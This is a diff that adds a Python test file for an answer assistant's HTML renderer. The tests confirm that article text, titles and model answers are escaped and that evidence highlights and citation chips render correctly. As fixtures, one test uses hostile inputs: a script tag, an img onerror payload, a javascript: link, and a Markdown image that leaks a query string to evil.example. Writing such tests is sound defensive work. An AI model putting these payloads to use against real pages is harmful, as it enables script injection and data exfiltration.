@@ -1,0 +1,74 @@
+"""HTML rendering: everything from articles and models is inert; chips and highlights are ours."""
+
+from assistant.records import Answer, Citation, Claim, Evidence, Passage
+from assistant.web import render
+
+TEXT = "The call lasted 90 minutes. <script>alert('x')</script> It was friendly."
+
+
+def passage(n: int = 1) -> Passage:
+    return Passage(
+        f"c{n}", "a", "news/<b>x</b>.txt", "Title <i>1</i>", TEXT, 10, 10 + len(TEXT), 0.5
+    )
+
+
+def test_answer_markdown_and_html_are_inert() -> None:
+    hostile = (
+        "See ![leak](http://evil.example/p.png?q=1) and <img src=x onerror=alert(1)> "
+        "and [click](javascript:alert(1)) [1]."
+    )
+    html = render.answer_message(hostile, turn=3)
+    assert "<img" not in html and "&lt;img" in html
+    assert "\\!\\[leak\\]\\(" in html, "image syntax is escaped for the Markdown renderer"
+    assert "\\[click\\]\\(javascript" in html
+    assert '<span class="cite cite-ref-3-1"' in html
+
+
+def test_panel_escapes_article_text_and_highlights_evidence() -> None:
+    p = passage()
+    evidence_start = 10 + TEXT.index("The call")
+    claim = Claim(
+        "The call lasted 90 minutes.",
+        (1,),
+        1.0,
+        "supported",
+        Evidence(1, "The call lasted 90 minutes.", evidence_start, evidence_start + 27),
+    )
+    citation = Citation(1, p)
+    answer = Answer(
+        "q",
+        "The call lasted 90 minutes. [1]",
+        "extractive",
+        False,
+        citations=(citation,),
+        claims=(claim,),
+        passages=(p,),
+    )
+    html = render.panel(answer, turn=0)
+    assert "<script>" not in html and "&lt;script&gt;" in html
+    assert "<i>1</i>" not in html and "Title &lt;i&gt;1&lt;/i&gt;" in html
+    assert '<mark class="evidence" data-claims="0-0">The call lasted 90 minutes.</mark>' in html
+    assert 'data-passage="0-1"' in html and "verdict-supported" in html
+
+
+def test_refusal_panel_shows_the_closest_passages() -> None:
+    answer = Answer(
+        "q",
+        "The articles do not say.",
+        "extractive",
+        True,
+        passages=(passage(), passage(2)),
+        note="No passage is close enough.",
+    )
+    html = render.panel(answer, turn=1)
+    assert "do not cover this" in html and html.count("data-passage=") == 2
+
+
+def test_uncited_claim_shows_its_suggested_passage() -> None:
+    p = passage()
+    claim = Claim(
+        "It was friendly.", (), 0.7, "uncited", Evidence(1, "It was friendly.", 0, 16), suggested=1
+    )
+    answer = Answer("q", "It was friendly.", "openai", False, claims=(claim,), passages=(p,))
+    html = render.panel(answer, turn=0)
+    assert "suggested" in html and 'data-passage="0-1"' in html and "verdict-uncited" in html
